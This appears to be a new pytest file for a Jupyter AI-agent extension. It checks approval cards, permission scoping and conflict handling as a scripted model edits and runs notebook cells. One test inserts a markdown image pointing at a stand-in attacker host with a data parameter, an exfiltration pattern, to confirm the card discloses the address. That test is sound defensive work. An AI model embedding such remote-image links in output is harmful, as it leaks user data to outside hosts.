@@ -1,0 +1,184 @@
+"""The whole way: a scripted model works in a notebook that a page shows, and a person clicks."""
+
+import re
+from collections.abc import Iterator
+
+import pytest
+
+from tests.app.conftest import APPROVAL, Session, running_session
+from tests.kernel.conftest import kernels
+from tests.kernel.matrix import INSTALLED, ipykernel
+from tests.notebook.page import Page, PageCell
+from vibe_jupyter.testing import call, say
+
+
+@pytest.fixture(scope="module", params=kernels()[:2])
+def shared_session(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
+    target = INSTALLED if request.param == "installed" else ipykernel(request.param)
+    with running_session(target, tmp_path_factory.mktemp("agent")) as session:
+        yield session
+
+
+@pytest.fixture
+def page(shared_session: Session) -> "ClickedPage":
+    shared_session.wire.run("%vibe reset")
+    shared_session.model.requests.clear()
+    return ClickedPage(shared_session.wire)
+
+
+class ClickedPage(Page):
+    """A page that shows the run view and its cards too."""
+
+    def cards(self, cell: PageCell) -> list[str]:
+        """The HTML that holds an approval card, of the run in this cell."""
+        return [html for html in self._patches(cell) if APPROVAL.search(html)]
+
+    def allow(self, cell: PageCell, number: int = 1, **more: str) -> str:
+        """Wait for the card of that number and allow it; its words."""
+        self.until(lambda: bool(self._comm(cell)), "a run view")
+        self.say(cell, {"type": "alive"})
+        self.until(lambda: len(self._approvals(cell)) >= number, f"card {number}")
+        approval = self._approvals(cell)[number - 1]
+        self.say(cell, {"type": "command", "command": {"type": "approve", "approval_id": approval, **more}})
+        card = [html for html in self._patches(cell) if approval in html][-1]
+        return " ".join(re.sub(r"<[^>]+>", " ", card).split())
+
+    def say(self, cell: PageCell, content: dict[str, object]) -> None:
+        self.wire.comm(self._comm(cell), {"method": "custom", "content": content})
+
+    def _approvals(self, cell: PageCell) -> list[str]:
+        found = [match for html in self._patches(cell) for match in APPROVAL.findall(html)]
+        return list(dict.fromkeys(found))
+
+    def _comm(self, cell: PageCell) -> str:
+        opened = [
+            message["content"]["comm_id"]
+            for message in self.wire.of(cell.request)
+            if message["msg_type"] == "comm_open" and "anywidget" in str(message["content"]["data"])
+        ]
+        return opened[-1] if opened else ""
+
+    def _patches(self, cell: PageCell) -> list[str]:
+        comm = self._comm(cell)
+        sent = [
+            message["content"]["data"].get("content") or {}
+            for message in self.wire.seen
+            if message["msg_type"] == "comm_msg" and message["content"]["comm_id"] == comm
+        ]
+        parts = [part for one in sent for part in (*one.get("patches", ()), *one.get("parts", ()))]
+        return [part.get("html", "") + part.get("append", "") for part in parts]
+
+
+def prompt(page: Page, code: str) -> PageCell:
+    cell = page.add(code)
+    page.press(cell)
+    return cell
+
+
+def end(page: Page, cell: PageCell) -> None:
+    page.until(lambda: bool(cell.status), "the end of the run")
+    assert cell.status == "ok"
+
+
+def test_the_agent_reads_inserts_runs_and_mends_cells(shared_session: Session, page: ClickedPage) -> None:
+    model = shared_session.model
+    broken = page.add("bill_len = {'bill_length_mm': 39.1}['bill_len']")
+    page.add("broken = 1")
+    model.will_reply(
+        call("read_notebook", outputs="brief"),
+        call("edit_cell", cell_id=broken.id, old_string="['bill_len']", new_string="['bill_length_mm']", run=True),
+        call("insert_cell", source="print('longest', bill_len)", run=True),
+        say("It runs now."),
+    )
+    cell = prompt(page, "%%vibe\nmend it")
+    first = page.allow(cell)
+    second = page.allow(cell, 2)
+    end(page, cell)
+    assert "changes your notebook · runs code" in first
+    assert first.startswith("Edit cell #1 and run it")
+    assert second.startswith("Insert a new cell below and run it")
+    assert "lets the agent run any code" in first
+    assert broken.source.endswith("['bill_length_mm']")
+    assert [one.text for one in page.cells if one.source.startswith("print('longest'")] == ["longest 39.1\n"]
+    assert page.cells[-1].source.startswith("print('longest'")
+    results = [model.requests[n].tool_results[-1] for n in (1, 2, 3)]
+    assert "#1" in results[0]
+    assert "; ok in " in results[1]
+    assert results[2].endswith("longest 39.1")
+    counts = [one.count for one in page.cells if one.count]
+    assert len(set(counts)) == len(counts)
+
+
+@pytest.mark.requirement("notebook.rule.expect-hash")
+def test_nobody_is_asked_for_an_edit_that_the_person_overtook(shared_session: Session, page: ClickedPage) -> None:
+    mine = page.add("theirs = 1")
+    shared_session.model.will_reply(
+        call("read_notebook"), call("edit_cell", cell_id=mine.id, source="agents = 1"), say("Then not.")
+    )
+    looked = 0
+
+    def type_after_the_reading(method: str) -> None:
+        nonlocal looked
+        looked += method == "cells"
+        if looked == 2:
+            page.type_into(mine, "theirs = 2")
+
+    page.before = type_after_the_reading
+    cell = prompt(page, "%vibe go")
+    end(page, cell)
+    assert not page.cards(cell)
+    assert mine.source == "theirs = 2"
+    assert "theirs = 2" in shared_session.model.requests[2].tool_results[-1]
+
+
+@pytest.mark.requirement("permission.approve.session")
+def test_a_grant_for_edits_does_not_let_cells_run(shared_session: Session, page: ClickedPage) -> None:
+    mine = page.add("ran = False")
+    shared_session.model.will_reply(
+        call("read_notebook"),
+        call("edit_cell", cell_id=mine.id, source="ran = 1"),
+        call("edit_cell", cell_id=mine.id, source="ran = 2"),
+        call("edit_cell", cell_id=mine.id, source="ran = 3", run=True),
+        say("Done."),
+    )
+    cell = prompt(page, "%vibe go")
+    assert "“For this session” covers edit_cell" in page.allow(cell, remember="session")
+    second = page.allow(cell, 2)
+    end(page, cell)
+    assert "and run it" in second
+    assert mine.source == "ran = 3"
+
+
+def test_a_markdown_cell_with_a_remote_image_asks_with_its_address(shared_session: Session, page: ClickedPage) -> None:
+    source = "# Result\n\n![plot](https://evil.example/p.png?data=1)"
+    shared_session.model.will_reply(call("insert_cell", source=source, cell_type="markdown"), say("Done."))
+    cell = prompt(page, "%vibe --yes=insert_cell go")
+    card = page.allow(cell)
+    end(page, cell)
+    assert "changes your notebook · the page then loads https://evil.example/p.png?data=1" in card
+    assert "Allow for this session" not in card
+
+
+def test_the_run_view_is_shown_again_on_a_page_loaded_anew(shared_session: Session, page: ClickedPage) -> None:
+    shared_session.model.will_reply(call("run_code", code="1"), say("Done."))
+    cell = prompt(page, "%vibe go")
+    page.until(lambda: bool(page._comm(cell)), "the run view")
+    page.say(cell, {"type": "alive"})
+    page.until(lambda: bool(page.cards(cell)), "the card")
+    page._answer_show = lambda _message, **args: args  # type: ignore[attr-defined]
+    page.panel = "panel-2"
+    page.tell("vibe_bridge_event", {"id": "x", "event": "hello"})
+    page.until(lambda: any(one["method"] == "show" for one in page.asked), "show")
+    asked = next(one["args"] for one in page.asked if one["method"] == "show")
+    page.allow(cell)
+    end(page, cell)
+    assert asked["cell"] == cell.id
+    assert asked["model_id"] == page._comm(cell)
+
+
+def test_read_file_on_the_own_notebook_shows_what_is_on_the_screen(shared_session: Session, page: ClickedPage) -> None:
+    (shared_session.folder / "test.ipynb").write_text('{"cells": []}', encoding="utf-8")
+    page.add("newer = 'than the file'")
+    shared_session.model.will_reply(call("read_file", path="test.ipynb"), say("Done."))
+    end(page, prompt(page, "%vibe go"))
+    assert "newer = 'than the file'" in shared_session.model.requests[1].tool_results[0]
